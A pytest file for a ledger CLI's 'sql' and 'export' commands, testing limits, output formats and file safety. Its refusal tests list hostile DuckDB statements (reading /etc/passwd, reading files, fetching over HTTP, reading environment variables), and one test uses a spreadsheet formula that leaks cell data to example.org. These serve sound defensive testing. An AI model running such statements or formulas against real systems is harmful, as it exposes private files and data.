"""``sql`` and ``export``: what they show, and that neither writes to or reads from where it should not."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from keledger.journal import Home
from tests.journal.support import call, tree_bytes

from .support import keledger, keledger_process, truth

pytestmark = pytest.mark.usefixtures("used")


def test_a_result_is_columns_and_rows() -> None:
    outcome = keledger("sql", "SELECT session, count(*) AS calls FROM calls GROUP BY session ORDER BY session")
    assert (outcome.status, outcome.err) == (0, "")
    assert outcome.json == {
        "columns": ["session", "calls"],
        "rows": [{"session": "s1", "calls": 3}, {"session": "s2", "calls": 2}],
    }


def test_the_sums_agree_to_the_last_digit() -> None:
    sums = ("sum(cost_usd) AS usd FROM calls", "sum(usd) FROM charges", "sum(cost_usd) FROM daily")
    rows = keledger("sql", " UNION ALL ".join(f"SELECT {part}" for part in sums)).json["rows"]
    assert {Decimal(row["usd"]) for row in rows} == {Decimal(keledger("daily").json["totals"]["cost_usd"])}


def test_a_result_as_a_table() -> None:
    statement = "SELECT 'a' AS name, 1.50 AS usd, NULL AS nothing, [1, 2] AS list UNION ALL SELECT 'bc', 20, NULL, []"
    assert keledger("--pretty", "sql", f"{statement} ORDER BY name").out.splitlines() == [
        "name    usd  nothing  list",
        "────  ─────  ───────  ──────",
        "a      1.50  NULL     [1, 2]",
        "bc    20.00  NULL     []",
    ]


def test_a_statement_from_stdin() -> None:
    assert keledger("sql", "-", given="SELECT 1 AS one;\n").json["rows"] == [{"one": 1}]


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM '{file}'",
        "SELECT * FROM read_text('{file}')",
        "SELECT * FROM glob('/*')",
        "COPY calls TO '{folder}/out.csv'",
        "COPY (SELECT 1) TO '{file}'",
        "ATTACH '{folder}/other.duckdb'",
        "CREATE TABLE mine AS SELECT 1",
        "CREATE TABLE calls AS SELECT 1",
        "INSERT INTO calls SELECT * FROM calls",
        "DELETE FROM calls",
        "DROP VIEW calls",
        "SET memory_limit = '64GB'",
        "SET enable_external_access = true",
        "INSTALL httpfs",
        "LOAD json",
        "PRAGMA database_list",
        "EXPORT DATABASE '{folder}'",
        "CALL pragma_version()",
        "SELECT current_setting('home_directory')",
        "SELECT getenv('HOME')",
        "SELECT * FROM duckdb_settings()",
        "SELECT 1; SELECT 2",
        "SELEC 1",
        "",
        "SELECT nothing FROM calls",
        "SELECT * FROM nowhere",
    ],
)
def test_a_statement_that_does_more_than_ask_is_refused(home: Home, tmp_path: Path, statement: str) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    file = folder / "file.txt"
    file.write_text("mine")
    keledger("daily")
    before = truth(home)
    outcome = keledger("sql", statement.replace("{file}", str(file)).replace("{folder}", str(folder)))
    assert (outcome.status, outcome.out) == (2, "")
    assert outcome.complaint
    assert truth(home) == before
    assert tree_bytes(folder) == {"file.txt": b"mine"}


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM read_text('{file}')",
        "COPY calls TO '{folder}/out.csv'",
        "ATTACH '{folder}/other.duckdb'",
        "INSTALL httpfs",
        "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')",
        "SELECT getenv('HOME')",
    ],
)
def test_a_process_of_its_own_refuses_it_as_well(tmp_path: Path, statement: str) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    file = folder / "file.txt"
    file.write_text("mine")
    text = statement.replace("{file}", str(file)).replace("{folder}", str(folder))
    outcome = keledger_process("sql", "-", given=text, cwd=folder)
    assert (outcome.status, outcome.out) == (2, "")
    assert "mine" not in outcome.err
    assert tree_bytes(folder) == {"file.txt": b"mine"}


def test_a_statement_that_takes_too_long_is_stopped() -> None:
    outcome = keledger("sql", "--timeout", "0.2", "SELECT count(*) FROM range(10000000000000) AS r WHERE range % 7 = 3")
    assert (outcome.status, outcome.out) == (1, "")
    assert "stopped after 0.2 s" in outcome.complaint


def test_stdin_that_is_not_utf8_is_named() -> None:
    outcome = keledger("sql", "-", given=b"SELECT '\xff'")
    assert (outcome.status, outcome.complaint) == (2, "stdin is not UTF-8: byte 9 is 0xff")


@pytest.mark.parametrize("timeout", ["0", "-1", "soon"])
def test_a_timeout_is_a_positive_number(timeout: str) -> None:
    outcome = keledger("sql", "--timeout", timeout, "SELECT 1 AS one")
    assert outcome.status == 2
    assert "--timeout" in outcome.complaint


def test_export_writes_a_line_a_counted_call(tmp_path: Path) -> None:
    lines = [json.loads(line) for line in keledger("export", "--format", "jsonl").out.splitlines()]
    assert [line["started_at"] for line in lines] == sorted(line["started_at"] for line in lines)
    assert len(lines) == 5
    assert lines[0]["charges"][0]["bucket"] == "input_uncached"
    file = tmp_path / "calls.jsonl"
    outcome = keledger("export", "--output", str(file))
    assert outcome.json == {"schema_version": 1, "report": "export", "file": str(file), "lines": 5}
    assert [json.loads(line) for line in file.read_text().splitlines()] == lines
    assert stat.S_IMODE(file.stat().st_mode) == 0o600


def test_export_as_csv(tmp_path: Path) -> None:
    file = tmp_path / "calls.csv"
    outcome = keledger("export", "--format", "csv", "-o", str(file))
    assert outcome.json == {"schema_version": 1, "report": "export", "file": str(file), "lines": 5}
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    content = file.read_bytes()
    assert keledger_process("export", "--format", "csv").out.encode() == content
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert list(rows[0]) == [row["column_name"] for row in keledger("sql", "DESCRIBE calls").json["rows"]]
    total = sum(Decimal(row["cost_usd"] or 0) for row in rows)
    assert total == Decimal(keledger("daily").json["totals"]["cost_usd"])


def test_a_prompt_that_a_spreadsheet_would_execute() -> None:
    prompt = '=HYPERLINK("https://example.org/?"&A1)'
    assert keledger("record", given=json.dumps(call(prompt=prompt, id="formula"))).status == 0
    rows = list(csv.DictReader(io.StringIO(keledger("export", "--format", "csv").out, newline="")))
    assert f"'{prompt}" in {row["prompt"] for row in rows}
    assert prompt in {json.loads(line)["prompt"] for line in keledger("export").out.splitlines()}


def test_events_are_not_written_as_csv() -> None:
    outcome = keledger("export", "--events", "--format", "csv")
    assert (outcome.status, outcome.out) == (2, "")
    assert "leave --format csv out" in outcome.complaint


def test_export_of_events_is_the_journals_own_bytes(home: Home) -> None:
    outcome = keledger("export", "--events")
    assert outcome.out.encode() == home.segments(home.writers()[0])[0].read_bytes()


def test_export_replaces_nothing_without_being_told(tmp_path: Path) -> None:
    file = tmp_path / "calls.jsonl"
    file.write_text("mine")
    refused = keledger("export", "-o", str(file))
    assert (refused.status, refused.out) == (1, "")
    assert refused.complaint == f"{file} exists: give --force to replace it, or another name"
    assert file.read_text() == "mine"
    assert keledger("--pretty", "export", "-o", str(file), "--force").out == f"5 lines written to {file}\n"
    assert len(file.read_text().splitlines()) == 5


def test_export_that_fails_leaves_nothing(tmp_path: Path) -> None:
    limited = ("sh", "-c", 'ulimit -f 1; exec "$@"', "sh")
    folder = tmp_path / "out"
    folder.mkdir()
    outcome = keledger_process("export", "--events", "-o", str(folder / "calls.jsonl"), prefix=limited)
    assert outcome.status == 1
    assert outcome.complaint
    assert tree_bytes(folder) == {}


def test_export_into_what_is_no_plain_file() -> None:
    assert keledger("export", "-o", os.devnull).json["lines"] == 5
    assert Path(os.devnull).is_char_device()


def test_export_into_a_folder_or_nowhere_is_named(tmp_path: Path) -> None:
    for path, words in ((tmp_path, "Is a directory"), (tmp_path / "no" / "file", "there is no folder")):
        outcome = keledger("export", "-o", str(path))
        assert (outcome.status, outcome.out) == (1, "")
        assert words in outcome.complaint
        assert str(path) in outcome.complaint


def test_a_statement_may_begin_with_a_comment() -> None:
    assert keledger("sql", "-- how many\nSELECT 7 AS number").json["rows"] == [{"number": 7}]


@pytest.mark.parametrize("timeout", ["nan", "inf", "1e300", "0", "-1"])
def test_a_timeout_is_a_number_of_seconds(timeout: str) -> None:
    assert keledger("sql", "SELECT 1", "--timeout", timeout).status == 2


def test_unbuffered_output_is_not_cut_short(tmp_path: Path) -> None:
    """With PYTHONUNBUFFERED a write to a pipe takes what fits and says so; the rest must still be written."""
    environment = {**os.environ, "PYTHONUNBUFFERED": "1", "KELEDGER_HOME": str(tmp_path / "home")}
    statement = "SELECT range AS number, repeat('x', 100) AS text FROM range(20000)"
    command = [sys.executable, "-m", "keledger", "sql", statement]
    done = subprocess.run(command, capture_output=True, env=environment, check=True)
    assert len(json.loads(done.stdout)["rows"]) == 20000


def test_a_function_that_nothing_interrupts_ends_with_its_process() -> None:
    endless = "SELECT levenshtein(repeat('a', 300000), repeat('b', 300000))"
    outcome = keledger_process("sql", endless, "--timeout", "0.5")
    assert outcome.status == 1
    assert "did not end 0.5 s after its start" in outcome.complaint


def test_an_answer_has_an_end() -> None:
    outcome = keledger("sql", "SELECT * FROM range(1000001)")
    assert (outcome.status, outcome.out) == (1, "")
    assert "more than 1,000,000 rows" in outcome.complaint


def test_json_is_shown_as_it_is_or_as_its_text() -> None:
    statement = (
        """SELECT '{"a":1e400}'::JSON AS large, '12345678901234567890123'::JSON AS long, '{"a":1.5}'::JSON AS plain"""
    )
    (row,) = keledger("sql", statement).json["rows"]
    assert row == {"large": '{"a":1e400}', "long": "12345678901234567890123", "plain": {"a": 1.5}}


@pytest.mark.parametrize("place", ["journal/00000001.jsonl", "lock", "new.csv"])
def test_export_into_a_home_is_refused(used: Home, place: str) -> None:
    before = truth(used)
    outcome = keledger("export", "-o", str(used.path / place), "--force")
    assert outcome.status == 2
    assert "is in the home" in outcome.complaint
    assert truth(used) == before


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux holds a process to an address space")
def test_memory_that_duckdb_does_not_count_is_bounded_as_well(used: Home) -> None:
    statement = "SELECT repeat('x', 100000000) AS text FROM range(100)"
    outcome = keledger_process("--home", str(used.path), "sql", statement)
    assert outcome.status == 1
    assert "needs more memory" in outcome.complaint
